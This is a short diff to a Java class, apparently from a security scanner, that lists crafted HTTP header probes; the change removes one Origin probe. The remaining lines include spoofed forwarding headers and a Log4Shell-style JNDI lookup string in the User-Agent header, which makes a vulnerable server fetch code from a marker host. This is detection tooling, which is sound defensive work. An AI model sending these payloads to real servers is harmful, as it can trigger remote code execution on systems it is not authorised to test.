@@ -27,7 +27,6 @@ final class HeaderProbes {
             "X-Forwarded-Proto: javascript",
             "X-Forwarded-Port: 99999999999",
             "Forwarded: for=" + Texts.MARK + ";host=" + Texts.MARK + ".invalid;proto=https",
-            "Origin: https://" + Texts.MARK + ".invalid",
             "Referer: https://" + Texts.MARK + ".invalid/",
             "User-Agent: ${jndi:ldap://" + Texts.MARK + "/a}",
             "Cookie: JSESSIONID=" + Texts.MARK + "; $Version=1; a=\"",
